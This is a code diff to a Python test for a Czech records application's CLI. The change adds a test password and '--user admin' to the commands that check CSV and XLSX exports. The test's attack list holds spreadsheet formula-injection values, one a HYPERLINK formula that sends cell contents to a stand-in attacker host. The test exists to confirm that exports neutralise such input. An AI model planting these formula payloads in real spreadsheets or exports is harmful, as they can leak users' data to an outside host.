@@ -15,6 +15,8 @@ from app.cli.main import main
 from app.people.records import PersonInput, create_person
 from app.stats import StatsTable, to_csv, to_xlsx
 
+from ..keys import TEST_PASSWORD
+
 ATTACKS = ['=HYPERLINK("http://zle.example/?x="&A1;"Klikni")', "+420 SUM(1)", "-1+2",
            "@SUM(A1)", "\t=1+1", "\r=1+1"]
 
@@ -78,21 +80,24 @@ def test_statistics_xlsx_is_czech(tmp_path):
     assert ws.column_dimensions["A"].width >= len("Služba")
 
 
-def test_cli_lists_and_audit_export(capsys, db, admin, tmp_path):
+def test_cli_lists_and_audit_export(capsys, db, admin, tmp_path, monkeypatch):
+    monkeypatch.setenv("KMB_PASSWORD", TEST_PASSWORD)
     path = str(tmp_path / "kmb.sqlite")
     for attack in ATTACKS:
         create_person(db, admin, PersonInput(given_name=attack.strip(), surname=attack,
                                              birth_date=dt.date(1980, 1, 1)))
-    main(["list", "persons", "--format", "csv", "--db", path, "--search", ""])
+    main(["list", "persons", "--format", "csv", "--db", path, "--search", "",
+          "--user", "admin"])
     out = capsys.readouterr().out
     _no_live_formula_in_csv(out)
     assert sum(1 for c in _csv_cells(out) if c.startswith("'")) >= len(ATTACKS)
     # the audit keeps the search text; its export is just as safe
-    main(["list", "persons", "--search", "=HYPERLINK(1)", "--db", path])
+    main(["list", "persons", "--search", "=HYPERLINK(1)", "--db", path, "--user", "admin"])
     capsys.readouterr()
     for fmt in ("csv", "xlsx"):
         target = tmp_path / f"audit.{fmt}"
-        assert main(["audit", "list", "--format", fmt, "-o", str(target), "--db", path]) == 0
+        assert main(["audit", "list", "--format", fmt, "-o", str(target), "--db", path,
+                     "--user", "admin"]) == 0
         if fmt == "csv":
             _no_live_formula_in_csv(target.read_bytes().decode("utf-8"))
         else:
